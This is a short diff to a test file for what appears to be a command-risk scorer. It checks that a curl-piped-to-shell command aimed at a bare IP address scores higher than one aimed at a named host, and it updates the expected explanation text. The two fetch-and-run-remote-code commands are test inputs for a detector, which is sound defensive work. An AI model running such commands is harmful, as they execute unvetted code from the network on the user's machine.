@@ -10,7 +10,7 @@ describe("what comes from another machine", () => {
     const named = verdict("curl -s http://files.example.net/a | sh", "linux");
     const bare = verdict("curl -s http://203.0.113.7/a | sh", "linux");
     expect(bare.score).toBeGreaterThan(named.score);
-    expect(bare.text).toContain("that has no name");
+    expect(bare.text).toContain("bare IP address");
   });
 
   it("weighs less where it runs nothing by itself, unless the machine has no name", () => {
